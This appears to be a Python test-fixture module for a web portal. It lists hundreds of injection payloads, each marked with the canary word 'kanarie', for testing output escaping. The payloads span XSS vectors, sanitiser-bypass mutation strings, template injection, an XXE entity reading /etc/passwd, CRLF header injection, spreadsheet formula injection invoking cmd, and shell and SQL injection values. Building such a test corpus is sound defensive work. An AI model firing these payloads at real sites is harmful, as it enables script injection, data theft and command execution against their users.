"""Texts that try to become code in a page: written for this portal, one family for each context in which text can land.

Each carries the word kanarie, so that what gets out of its place can be told from what is ours.
"""
# ruff: noqa: E501  a payload is one line

CALLS = ("alert('kanarie')", "alert`kanarie`", "top['al'+'ert']('kanarie')", "import('//kanarie.invalid')")
ELEMENTS = (
    "<script>{}</script>", "<ScRiPt >{}</sCrIpT >", "<script\x0c>{}</script\n>", "<script/kanarie>{}</script>",
    "<img src=kanarie onerror={}>", "<img/src=kanarie/onerror={}>", "<img src=`kanarie` onerror={}//",
    "<svg onload={}>", "<svg/onload={}>", "<svg><script>{}</script></svg>", "<svg><animate onbegin={} attributeName=x>",
    "<svg><a xlink:href=javascript:{}><text y=9>kanarie</text></a></svg>", "<svg><use href=data:,{}#kanarie>",
    "<math><mtext><img src=kanarie onerror={}></mtext></math>", "<math href=javascript:{}>kanarie</math>",
    "<body onload={}>", "<details open ontoggle={}>", "<marquee onstart={}>kanarie</marquee>",
    "<input autofocus onfocus={}>", "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}>",
    "<video><source onerror={}></video>", "<audio src=kanarie onerror={}>", "<video poster=javascript:{}>",
    "<iframe src=javascript:{}></iframe>", "<iframe srcdoc=\"<img src=1 onerror={}>\"></iframe>",
    "<object data=javascript:{}></object>", "<embed src=javascript:{}>", "<form><button formaction=javascript:{}>kanarie",
    "<a href=javascript:{}>kanarie</a>", "<a href=\"java\tscript:{}\">kanarie</a>", "<base href=//kanarie.invalid/ x={}>",
    "<meta http-equiv=refresh content=\"0;url=javascript:{}\">", "<link rel=stylesheet href=//kanarie.invalid x={}>",
    "<style>@import'//kanarie.invalid?{}'</style>", "<style onload={}></style>", "<portal src=javascript:{}>",
    "<template><script>{}</script></template>", "<dialog open onclose={}>", "<kanarie-el oncontentvisibilityautostatechange={}>",
)  # fmt: skip
LEAVING = (  # out of an attribute, a text area, a title, a comment, a script, a style
    "\" onmouseover={} x=\"", "' onmouseover={} x='", "\" autofocus onfocus={} x=\"", "` onfocus={} x=`", "kanarie onfocus={} x",
    "\"><script>{}</script>", "'><script>{}</script>", "></option></select><script>{}</script>",
    "</textarea><script>{}</script>", "</title><script>{}</script>", "</style><script>{}</script>",
    "</script><script>{}</script>", "--><script>{}</script>", "]]><script>{}</script>", "</noscript><img src=1 onerror={}>",
    "</svg><script>{}</script>", "</text><script>{}</script>", "</summary></details><img src=1 onerror={}>",
    "'-{}-'", "\"-{}-\"", "';{}//", "\";{}//", "\\';{}//", "`${{{}}}`", "*/{}/*", "\u2028{}", "\\u003cimg src=1 onerror={}>",
)  # fmt: skip
OTHERS = (
    "javascript:alert('kanarie')", "JaVaScRiPt:alert('kanarie')", "javascript&colon;alert('kanarie')", "\x01javascript:alert('kanarie')",
    "data:text/html,<script>alert('kanarie')</script>", "data:image/svg+xml,<svg onload=alert('kanarie')>", "vbscript:kanarie",
    "//kanarie.invalid/%2f..", "https:kanarie.invalid", "view-source:kanarie", "blob:kanarie",
    "expression(alert('kanarie'))", "background:url(javascript:alert('kanarie'))", "}*{background:url(//kanarie.invalid)}",
    "{{kanarie}}", "{{ 7|add:'kanarie' }}", "{% include 'kanarie' %}", "{# kanarie #}", "${kanarie}", "#{kanarie}", "<%= kanarie %>",
    "{{constructor.constructor('alert(`kanarie`)')()}}", "[[${kanarie}]]", "{{request.user.password}}kanarie",
    # what a sanitiser mends into something else
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(\"kanarie\")&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(`kanarie`)>'>", "<noscript><p title='</noscript><img src=x onerror=alert(`kanarie`)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert('kanarie')>",
    "<<script>alert('kanarie')//<</script>", "<scr<script>ipt>alert('kanarie')</scr</script>ipt>", "<!--><img src=1 onerror=alert('kanarie')>-->",
    "<![CDATA[<script>alert('kanarie')</script>]]>", "<?xml version='1.0'?><kanarie onload=alert(1)>", "<!DOCTYPE kanarie [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
    # written otherwise
    "&lt;script&gt;alert('kanarie')&lt;/script&gt;", "&#60;script&#62;alert('kanarie')&#60;/script&#62;", "&#x3c;img src=1 onerror=alert('kanarie')&#x3e;",
    "%3Cscript%3Ealert('kanarie')%3C/script%3E", "\\x3cscript\\x3ealert('kanarie')\\x3c/script\\x3e", "+ADw-script+AD4-alert('kanarie')+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert('kanarie')\uff1c/script\uff1e", "\u02bascript\u02ba kanarie", "<scrıpt>alert('kanarie')</scrıpt>", "<ſcript>alert('kanarie')</ſcript>",
    "\u202e>tpircs/<kanarie>tpircs<", "<img src=1\u200bonerror=alert('kanarie')>", "<a\u00a0href=javascript:alert('kanarie')>", "kanarie\u0085<script>alert(1)</script>",
    # mail, calendar, csv, files
    "kanarie\r\nBcc: elders@kanarie.invalid", "kanarie\r\nBEGIN:VALARM\r\nACTION:AUDIO", "kanarie%0d%0aSet-Cookie:%20x=1", "=HYPERLINK(\"//kanarie.invalid\")",
    "@SUM(1+1)*cmd|' /C kanarie'!A0", "+kanarie", "-kanarie", "\tkanarie", "../../kanarie", "kanarie.pdf\u202egnp.html", "CON", "kanarie;calc", "$(kanarie)", "`kanarie`", "|kanarie",
    # words that break things
    "null kanarie", "undefined", "NaN", "True", "None", "0x00kanarie", "1e999", "''", "\"\"", "\\", "\\\\kanarie\\n", "%s%n%x kanarie", "' OR 'kanarie'='kanarie", "Z\u0351\u0489kanarie",
    "🏴󠁧󠁢󠁥󠁮󠁧󠁿👩‍👩‍👧kanarie", "رسالة kanarie", "ﷺ kanarie", "田中さん kanarie", "Ω≈ç√∫ kanarie", "i\u0307 kanarie", "kanarie" * 40,
)  # fmt: skip
PAYLOADS = (
    *(form.format(CALLS[number % len(CALLS)]) for number, form in enumerate((*ELEMENTS, *LEAVING))),
    *OTHERS,
)
EVERYTHING = " ¶ ".join(PAYLOADS)
# What a spreadsheet may take for a formula, and what may stand before it unseen (reliability T17).
FORMULAS = (
    *("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "=cmd|'/c calc'!A0", " =1+1", "\u00a0=1+1"),
    *("\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201", "\ufe661", "\ufe621", "\ufe631", "\ufe6b1", "\u22121"),
    *("\u200b=1+1", "\u200d\u2060=1", "\ufeff=1", "\x01=1+1", "\x1b=1", "\x7f=1", "\u0085=1", "\u2028=1", "\u202e=1+1", "\U000e0001=1"),
    *('"=1+1', "'=1", "a,=1+1", "a;=1+1", "a\t=1+1", "a|=1+1", 'a";"=1+1', '=HYPERLINK("//kanarie.invalid")', "=WEBSERVICE(1)", "==1", "%0A=1"),
    *("https://voorbeeld.invalid/", "mailto:x@voorbeeld.invalid", "00123", "1e5", "😡", "<script>", "&amp;", "x" * 120),
)  # fmt: skip
